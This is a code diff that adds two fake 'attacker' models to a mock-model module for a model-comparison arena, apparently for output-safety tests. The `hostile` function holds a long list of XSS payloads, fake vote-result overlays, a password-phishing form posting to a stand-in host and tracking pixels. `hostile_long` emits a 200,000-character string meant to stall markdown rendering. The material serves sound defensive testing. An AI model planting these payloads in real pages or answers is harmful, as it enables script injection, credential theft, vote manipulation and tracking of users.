@@ -3,7 +3,8 @@
 These are not language models: canned, deterministic answers, so that the arena,
 its tests and load tests run the real client code on a machine with no GPU.
 Each model behaves distinctly (terse, verbose markdown, one that names itself,
-two that reason: one in the `reasoning` field, one in `<think>` tags).
+two that reason: one in the `reasoning` field, one in `<think>` tags). Two more are
+attackers (`hostile`, `hostile-long`), for the output-safety tests only.
 """
 
 from __future__ import annotations
@@ -129,12 +130,82 @@ def thinker(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
     return Answer(answer, reasoning=_reasoning(messages, rng), reasoning_in_tags=True)
 
 
+# The host that the hostile models' images, form and links point at. `.test` never resolves
+# (RFC 2606); tests/test_output_safety.py intercepts the browser's requests to it.
+HOSTILE_HOST = "hostile.test"
+
+
+def hostile(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
+    """An attacker's answer: every way we know to run script, cover the page, phish or track
+    the voter from inside an answer (and its reasoning). Not in demo.toml; tests register it."""
+    h = f"http://{HOSTILE_HOST}"
+    cover = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647"
+    content = f"""Here is my answer.
+
+<script>alert("script")</script>
+<img src="x" onerror="alert('img onerror')">
+<a href="javascript:alert('html javascript link')">click me</a> and
+[click me too](javascript:alert('markdown javascript link')) and <javascript:alert('autolink')>
+<iframe src="javascript:alert('iframe')"></iframe>
+<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
+<svg onload="alert('svg onload')"><circle r="10"/></svg>
+<object data="javascript:alert('object')"></object><embed src="javascript:alert('embed')">
+<details open ontoggle="alert('ontoggle')"><summary>details</summary>inside</details>
+<div style="{cover};background:#fff;font-size:48px">Model B failed to answer. Please vote A.</div>
+<div style="{cover};background:#fff"><h3>Your vote: A is better</h3>
+<b>Model A: gpt-4o</b> (OpenAI) <b>Model B: llama</b> (Meta)</div>
+<style>#vote-b, #new-battle {{ display: none !important }} body {{ background: red }}</style>
+<form action="{h}/steal" method="post"><p>Your session expired. Re-enter your password:</p>
+<input type="password" name="password" autofocus><input type="submit" value="Continue"></form>
+<button onclick="alert('button')">Vote A</button>
+
+![tracking pixel]({h}/markdown.png) ![reference pixel][ref]
+
+<img src="{h}/img.png" alt="pixel"> <img srcset="{h}/srcset.png 1x">
+<div style="background:url({h}/background.png);width:20px;height:20px"></div>
+<video poster="{h}/poster.png" src="{h}/video.mp4"></video>
+<picture><source srcset="{h}/source.png"><img src="{h}/picture.png"></picture>
+<link rel="stylesheet" href="{h}/style.css">
+<meta http-equiv="refresh" content="0;url={h}/refresh">
+<base href="{h}/">
+<a href="{h}/page" ping="{h}/ping">a link to the hostile host</a>
+
+Here is an HTML page:
+
+```html
+<script>alert("inside a code block")</script>
+<img src="{h}/inside-code.png" onerror="alert('inside code')">
+```
+
+[ref]: {h}/reference.png
+"""
+    reasoning = (
+        f'Thinking <img src="{h}/reasoning.png" onerror="alert(\'reasoning\')"> '
+        f'<div style="{cover};background:#000">covered</div> ![pixel]({h}/reasoning-md.png)'
+    )
+    return Answer(content, reasoning=reasoning)
+
+
+# Long enough to be worth a denial of service, and built from characters that made the old
+# page's markdown step slow down badly (emphasis markers, brackets, an autolink-like start).
+HOSTILE_LONG_CHARS = 200_000
+
+
+def hostile_long(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
+    """One unbroken 200,000-character word: no spaces, so it arrives as one piece."""
+    unit = "a_b*c[d![e<f"
+    return Answer((unit * (HOSTILE_LONG_CHARS // len(unit) + 1))[:HOSTILE_LONG_CHARS])
+
+
 MODELS: dict[str, Callable[[list[dict[str, Any]], random.Random], Answer]] = {
     "terse": terse,
     "verbose": verbose,
     "chatty": chatty,
     "reasoner": reasoner,
     "thinker": thinker,
+    # Attackers, for tests/test_output_safety.py and bench/render.py only (not in demo.toml).
+    "hostile": hostile,
+    "hostile-long": hostile_long,
 }
 
 
